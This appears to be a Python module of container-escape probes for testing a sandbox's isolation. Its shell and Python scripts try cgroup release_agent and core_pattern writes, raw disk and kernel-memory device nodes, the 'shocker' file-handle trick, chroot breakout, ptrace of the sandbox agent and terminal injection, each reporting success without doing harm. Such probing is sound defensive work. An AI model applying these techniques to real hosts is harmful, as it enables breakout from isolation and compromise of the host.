"""Ways out of a container, each a script that prints ESCAPED when it got out. Run as root inside.

The host gives them what an attacker would guess or look up, in the environment: MARKER (a file on the host), VICTIM
(a word in the arguments of a process on the host), ABSTRACT (a listener in the host's network namespace), PORT and
ADDRESSES (a listener on all of the host's addresses), METADATA (an address that answers on PORT), LINK (the
hardware address of a network interface of the host), DISK (major and minor of the host's disk), HANDLES (a mounted
host directory), AGENT (the process that serves the sandbox), TERMINAL (a terminal of the host). A key, a table of the packet
filter and an entry of binfmt_misc are called VICTIM too, and another sandbox runs.

What they write is what was there before, so that one which succeeds does no harm.
"""

SHELL = {
    "sysrq-trigger": "echo h > /proc/sysrq-trigger && echo ESCAPED",
    "core-pattern": """
        v=$(cat /proc/sys/kernel/core_pattern) && printf %s "$v" > /proc/sys/kernel/core_pattern && echo ESCAPED""",
    "core-pattern-by-fresh-proc": """
        unshare --mount --pid --fork sh -c 'mount -t proc p /mnt && v=$(cat /mnt/sys/kernel/core_pattern) &&
            printf %s "$v" > /mnt/sys/kernel/core_pattern' && echo ESCAPED""",
    "core-pattern-by-remount": """
        mount -o remount,rw /proc/sys 2>/dev/null; umount /proc/sys 2>/dev/null
        v=$(cat /proc/sys/kernel/core_pattern) && printf %s "$v" > /proc/sys/kernel/core_pattern && echo ESCAPED""",
    "modprobe-path": """
        v=$(cat /proc/sys/kernel/modprobe) && printf %s "$v" > /proc/sys/kernel/modprobe && echo ESCAPED""",
    "kernel-settings-in-sysfs": """
        f=/sys/kernel/mm/transparent_hugepage/enabled
        mount -o remount,rw /sys 2>/dev/null
        v=$(sed 's/.*\\[\\(.*\\)\\].*/\\1/' $f) && echo "$v" > $f && echo ESCAPED""",
    "kernel-settings-in-fresh-sysfs": """
        mount -t sysfs s /mnt && f=/mnt/kernel/mm/transparent_hugepage/enabled &&
            v=$(sed 's/.*\\[\\(.*\\)\\].*/\\1/' $f) && echo "$v" > $f && echo ESCAPED""",
    "cgroup-release-agent": """
        mkdir -p /tmp/cg && mount -t cgroup -o none,name=escape c /tmp/cg && echo /bin/true > /tmp/cg/release_agent &&
            echo ESCAPED; umount /tmp/cg""",
    "cgroup-controllers-of-the-host": """
        mkdir -p /tmp/cg && mount -t cgroup -o memory m /tmp/cg && mkdir /tmp/cg/escape && echo ESCAPED
        rmdir /tmp/cg/escape; umount /tmp/cg""",
    "cgroup-release-agent-in-namespaces": """
        mkdir -p /tmp/cg
        for in in "" "unshare --user --map-root-user --mount --cgroup"; do
            $in sh -c 'for kind in memory pids cpu devices freezer; do
                mount -t cgroup -o $kind c /tmp/cg && v=$(cat /tmp/cg/release_agent) &&
                    printf %s "$v" > /tmp/cg/release_agent && echo ESCAPED
                umount /tmp/cg
            done'
        done""",
    "cgroup-hierarchy-of-the-host": """
        mkdir -p /tmp/cg && mount -t cgroup2 c /tmp/cg && mkdir /tmp/cg/escape && [ -e /tmp/cg/escape/cgroup.procs ] &&
            [ "$(cat /tmp/cg/cgroup.type 2>/dev/null || echo root)" = root ] && echo ESCAPED
        rmdir /tmp/cg/escape; umount /tmp/cg""",
    "capabilities-regained-in-a-user-namespace": """
        for in in "" "unshare --user --map-root-user --mount"; do
            $in sh -c 'rm -f /tmp/d; mknod /tmp/d b $DISK && head -c 1024 /tmp/d | wc -c | grep -q 1024 && echo ESCAPED
                f=/proc/sys/vm/drop_caches; v=/proc/sys/vm/swappiness; cat $v > $v && echo ESCAPED'
        done; rm -f /tmp/d""",
    "masks-taken-off": """
        for f in /proc/kcore /proc/kmsg /proc/timer_list /proc/keys /proc/sysrq-trigger /proc/irq /proc/sys /sys/firmware; do
            umount $f 2>/dev/null; mount -o remount,rw,bind $f 2>/dev/null
        done
        for f in /proc/kcore /proc/timer_list; do [ "$(head -c 1 $f | wc -c)" = 1 ] && echo ESCAPED; done
        for f in /proc/irq/default_smp_affinity /proc/sys/kernel/panic; do v=$(cat $f) && echo "$v" > $f && echo ESCAPED; done""",
    "masks-missing-in-a-fresh-proc": """
        mkdir -p /tmp/p && mount -t proc p /tmp/p
        for f in /tmp/p/kcore /tmp/p/timer_list; do [ "$(head -c 1 $f | wc -c)" = 1 ] && echo ESCAPED; done
        for p in /tmp/p/[0-9]*; do [ -e "$p/root$MARKER" ] && echo ESCAPED; done
        umount /tmp/p""",
    "devices-of-the-image-made-usable": """
        mount -o remount,bind,dev / 2>/dev/null
        awk '$5 == "/" { found = $6 !~ /nodev/ } END { exit !found }' /proc/self/mountinfo && echo ESCAPED""",
    "shared-devices-directory-is-writable": """
        mount -o remount,rw,bind /dev 2>/dev/null
        touch /dev/escape && echo ESCAPED; rm -f /dev/escape""",
    "what-mounts-hide": """
        for m in /dev /.sbx/ctl /.sbx/bin/agent; do umount $m && mount -t tmpfs t $m && echo ESCAPED; done
        [ -d /.sbx/ctl ] && mkdir -p /tmp/c && mount --move /.sbx/ctl /tmp/c && echo ESCAPED && mount --move /tmp/c /.sbx/ctl""",
    "control-socket-replaced-by-a-link": """
        mount -o remount,rw,bind /.sbx/ctl 2>/dev/null
        ln -s /run/docker.sock /.sbx/ctl/agent.new && echo ESCAPED; rm -f /.sbx/ctl/agent.new""",
    "set-user-id-program-for-the-host": """
        cp /bin/true /.sbx/ctl/program && chmod u+s /.sbx/ctl/program && [ -u /.sbx/ctl/program ] && echo ESCAPED
        rm -f /.sbx/ctl/program""",
    "agent-of-another-sandbox": """
        for p in /proc/[0-9]*; do
            cd "$p/root/.sbx/ctl" 2>/dev/null && python3 -c '
import socket
s = socket.socket(socket.AF_UNIX)
s.connect("agent.sock")
print("ESCAPED")' && break
        done""",
    "agent-namespaces": """
        for kind in user mnt pid net; do [ "$(readlink /proc/$AGENT/ns/$kind)" ] && echo ESCAPED; done""",
    "formats-of-the-host": """
        mkdir -p /tmp/b && mount -t binfmt_misc b /tmp/b && [ -e "/tmp/b/$VICTIM" ] && echo ESCAPED; umount /tmp/b""",
    "keys-of-the-host": """grep -q "$VICTIM" /proc/keys && echo ESCAPED""",
    "names-that-lead-to-the-host": """
        cp /etc/hosts /tmp/hosts
        for a in $ADDRESSES $METADATA; do echo "$a rebind-$a.example" >> /etc/hosts; done
        for a in $ADDRESSES $METADATA; do
            [ $a = 127.0.0.1 ] || python3 -c '
import os, socket, sys
if socket.create_connection((sys.argv[1], int(os.environ["PORT"])), timeout=2).recv(1):
    print("ESCAPED")' rebind-$a.example &
        done
        wait
        cat /tmp/hosts > /etc/hosts""",
    "raw-disk": "mknod /tmp/disk b $DISK && head -c 1024 /tmp/disk | wc -c | grep -q 1024 && echo ESCAPED; rm -f /tmp/disk",
    "kernel-log": "dmesg | grep -q . && echo ESCAPED",
    "kernel-memory": "mknod /tmp/kmem c 1 1 && head -c 1 /tmp/kmem | wc -c | grep -q 1 && echo ESCAPED; rm -f /tmp/kmem",
    "kernel-addresses": "awk '$1 !~ /^0+$/ { found = 1 } END { exit !found }' /proc/kallsyms && echo ESCAPED",
    "files-of-another-process": """
        for p in /proc/[0-9]*; do cat "$p/root$MARKER" && echo ESCAPED; done""",
    "namespaces-of-another-process": """
        for p in /proc/[0-9]*; do nsenter --target ${p#/proc/} --mount cat "$MARKER" && echo ESCAPED; done""",
    "processes-of-the-host": """
        for p in /proc/[0-9]*; do
            tr '\\0' ' ' < $p/cmdline 2>/dev/null | grep -q "$VICTIM" && [ $p != /proc/$$ ] && kill -0 ${p#/proc/} && echo ESCAPED
        done""",
    "network-interfaces-of-the-host": 'cat /sys/class/net/*/address | grep -q "$LINK" && echo ESCAPED',
    "mounts-of-the-host": """
        mkdir -p /tmp/m; mknod /tmp/d b $DISK && mount /tmp/d /tmp/m && [ -e "/tmp/m$MARKER" ] && echo ESCAPED
        umount /tmp/m 2>/dev/null; rm -f /tmp/d""",
    "agent-program-is-writable": """
        for f in /.sbx/bin/agent /proc/1/exe; do
            mount -o remount,rw,bind /.sbx/bin/agent 2>/dev/null; umount /.sbx/bin/agent 2>/dev/null
            : >> $f && echo ESCAPED
        done""",
    "agent-program-is-replaceable": "mv /.sbx/bin/agent /tmp/moved && mv /tmp/moved /.sbx/bin/agent && echo ESCAPED",
    "agent-memory": """
        at=$(head -n 1 /proc/$AGENT/maps | cut -d- -f1) &&
            dd if=/proc/$AGENT/mem of=/dev/null bs=1 count=1 skip=$((0x$at)) && echo ESCAPED""",
    "agent-environment": "tr '\\0' '\\n' < /proc/$AGENT/environ && echo ESCAPED",
    "agent-descriptors": "readlink /proc/$AGENT/fd/0 && echo ESCAPED",
    "root-is-root-outside": "awk '$2 == 0 { found = 1 } END { exit !found }' /proc/self/uid_map && echo ESCAPED",
    "clock": 'date -s "@$(date +%s)" >/dev/null && echo ESCAPED',
    "more-memory-than-allowed": """
        mount -o remount,rw,bind /sys/fs/cgroup 2>/dev/null
        for f in /sys/fs/cgroup/pids/escape /sys/fs/cgroup/escape; do mkdir $f && echo ESCAPED && rmdir $f; done
        for f in /sys/fs/cgroup/memory.max /sys/fs/cgroup/pids.max; do
            v=$(cat $f) && echo "$v" > $f && echo ESCAPED
        done""",
    "leaked-descriptors": """
        for fd in /proc/self/fd/*; do [ -e "$fd/$MARKER" ] && echo ESCAPED; done""",
    "devices-of-the-image": """
        mkdir -p /evil
        for name in "disk b $DISK" "memory c 1 1" "log c 1 11" "ports c 1 4"; do
            [ -e "/evil/${name%% *}" ] || mknod "/evil/${name%% *}" ${name#* }
            timeout 5 dd "if=/evil/${name%% *}" bs=8192 count=1 | grep -q . && echo ESCAPED
        done""",
    "devices-of-the-image-in-namespaces": """
        mkdir -p /evil /tmp/m
        [ -e /evil/disk ] || mknod /evil/disk b $DISK
        for in in "" "unshare --user --map-root-user --mount"; do
            $in sh -c 'mount --bind -o dev / /tmp/m && head -c 16 /tmp/m/evil/disk | grep -q . && echo ESCAPED
                mount /evil/disk /tmp/m && [ -e "/tmp/m$MARKER" ] && echo ESCAPED'
            umount -R /tmp/m
        done""",
    "programs-of-the-image-are-the-hosts-root": """
        mkdir -p /evil; [ -e /evil/set-user-id ] || (cp /bin/sleep /evil/set-user-id; chmod 6755 /evil/set-user-id)
        ls -ln /evil/set-user-id | grep -q rws || exit
        cp /usr/bin/python3 /evil/python && chmod 6755 /evil/python && setpriv --reuid 1000 --clear-groups /evil/python -c '
import os
for line in open("/proc/self/uid_map"):
    inside, outside, _ = line.split()
    if os.geteuid() == int(inside) and outside == "0":
        print("ESCAPED")'""",
    "raw-io-ports": "mknod /tmp/port c 1 4 && head -c 1 /tmp/port | wc -c | grep -q 1 && echo ESCAPED; rm -f /tmp/port",
}

# What the host's own root must be able to use for an attempt to succeed at all; kernels are built without some.
NEEDS = {
    "sysrq-trigger": "test -w /proc/sysrq-trigger",
    "modprobe-path": "test -w /proc/sys/kernel/modprobe",
    "kernel-memory": "head -c 1 /dev/mem",
    "raw-io-ports": "test -e /dev/port",
    "raw-disk": 'head -c 1024 "$(findmnt -no SOURCE /)" | grep -q .',
    "devices-of-the-image-in-namespaces": 'head -c 1024 "$(findmnt -no SOURCE /)" | grep -q .',
    "mounts-of-the-host": 'head -c 1024 "$(findmnt -no SOURCE /)" | grep -q .',
    "kernel-modules": "test -e /proc/modules",
    "kexec": "test -e /proc/sys/kernel/kexec_load_disabled",
    "kernel-crypto-sockets": "python3 -c 'import socket; socket.socket(38, socket.SOCK_SEQPACKET)'",
    "open-by-vsock": "python3 -c 'import socket; socket.socket(40, socket.SOCK_STREAM)'",
}

# Prints ESCAPED unless the kernel says that this is not for us.
_SYSCALL = """
import ctypes, errno, os, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
REFUSED = {errno.EPERM, errno.EACCES, errno.ENOSYS}
def call(*arguments):
    result = libc.syscall(*arguments)
    if result >= 0 or ctypes.get_errno() not in REFUSED:
        print("ESCAPED", result, os.strerror(ctypes.get_errno()))
"""

PYTHON = {
    "abstract-socket": """
import os, socket
s = socket.socket(socket.AF_UNIX)
s.connect("\\0" + os.environ["ABSTRACT"])
print("ESCAPED")
""",
    "host-ports": """
import os, socket
from concurrent.futures import ThreadPoolExecutor
def knock(address):
    try:
        if socket.create_connection((address, int(os.environ["PORT"])), timeout=2).recv(1):
            print("ESCAPED", address)
    except OSError:
        pass
with ThreadPoolExecutor() as pool:
    list(pool.map(knock, os.environ["ADDRESSES"].split() + ["127.0.0.1"]))
""",
    "metadata-address": """
import os, socket
if socket.create_connection((os.environ["METADATA"], int(os.environ["PORT"])), timeout=2).recv(1):
    print("ESCAPED")
""",
    "chroot-within-chroot": """
import os
os.makedirs("/tmp/jail", exist_ok=True)
up = os.open("/", os.O_RDONLY)
os.chroot("/tmp/jail")
os.fchdir(up)
for _ in range(64):
    os.chdir("..")
os.chroot(".")
if os.path.exists(os.environ["MARKER"]):
    print("ESCAPED")
""",
    # The "shocker": inode 2 is the root of every ext file system.
    "file-handles": _SYSCALL
    + """
mount = os.open(os.environ["HANDLES"], os.O_RDONLY)
handle = struct.pack("=IiII", 8, 1, 2, 0)
for number in (304,) if os.uname().machine == "x86_64" else (265,):
    opened = libc.syscall(number, mount, handle, os.O_RDONLY)
    if opened >= 0:
        print("ESCAPED", os.listdir(opened)[:3])
""",
    "bpf": _SYSCALL + "call(321, 0, ctypes.create_string_buffer(struct.pack('=IIII', 2, 4, 4, 1), 128), 128)",
    "bpf-socket-filter-load": _SYSCALL + "call(321, 5, ctypes.create_string_buffer(128), 128)",
    "perf-events": _SYSCALL
    + """
call(298, ctypes.create_string_buffer(struct.pack("=IIQ", 1, 112, 0), 112), 0, -1, -1, 0)
""",
    "keyrings": _SYSCALL + "call(250, 0, -4, 1)",
    "userfaultfd": _SYSCALL + "call(323, 0)",
    "io-uring": _SYSCALL + "call(425, 1, ctypes.create_string_buffer(120))",
    "kernel-modules": _SYSCALL + "call(175, ctypes.create_string_buffer(8), 8, b'')",
    "kexec": _SYSCALL + "call(246, 0, 0, 0, 0)",
    "swap": _SYSCALL + "open('/tmp/swap', 'w'); call(168, b'/tmp/swap')",
    "reboot": _SYSCALL + "call(169, 0xfee1dead, 672274793, 0, 0)",
    "terminal-of-the-host": """
import fcntl, os, termios
fd = os.open(os.environ["TERMINAL"], os.O_RDWR | os.O_NOCTTY)
fcntl.ioctl(fd, termios.TIOCSTI, b"x")
print("ESCAPED")
""",
    "packet-filter-of-the-host": """
import os, socket, struct
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
# NFT_MSG_GETTABLE, all of them.
s.sendto(struct.pack("=IHHII", 20, 10 << 8 | 1, 0x301, 1, 0) + struct.pack("=BBH", 0, 0, 0), (0, 0))
if os.environ["VICTIM"].encode() in s.recv(1 << 16):
    print("ESCAPED")
""",
    "links-of-the-host-by-netlink": """
import os, socket, struct
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
# RTM_GETLINK, all of them.
s.sendto(struct.pack("=IHHII", 32, 18, 0x301, 1, 0) + bytes(16), (0, 0))
s.settimeout(1)
while not (part := s.recv(1 << 16))[4:6] == b"\\3\\0":
    if bytes.fromhex(os.environ["LINK"].replace(":", "")) in part:
        print("ESCAPED")
""",
    "trace-the-agent": _SYSCALL
    + """
pid = int(os.environ["AGENT"])
if libc.ptrace(16, pid, 0, 0) == 0:
    os.waitpid(pid, 0)
    libc.ptrace(17, pid, 0, 0)
    print("ESCAPED")
""",
    "descriptors-of-the-agent": _SYSCALL
    + """
pid = os.pidfd_open(int(os.environ["AGENT"]))
if libc.syscall(438, pid, 0, 0) >= 0:
    print("ESCAPED")
""",
    "open-by-vsock": """
import socket
try:
    socket.socket(40, socket.SOCK_STREAM)
    print("ESCAPED")
except OSError as error:
    print(error)
""",
    "kernel-crypto-sockets": """
import socket
try:
    socket.socket(38, socket.SOCK_SEQPACKET)
    print("ESCAPED")
except OSError as error:
    print(error)
""",
    "trace-another-process": _SYSCALL
    + """
import glob
for path in glob.glob("/proc/[0-9]*/cmdline"):
    if os.environ["VICTIM"].encode() in open(path, "rb").read() and int(path.split("/")[2]) != os.getpid():
        pid = int(path.split("/")[2])
        if libc.ptrace(16, pid, 0, 0) == 0:
            os.waitpid(pid, 0)
            libc.ptrace(17, pid, 0, 0)
            print("ESCAPED")
""",
}
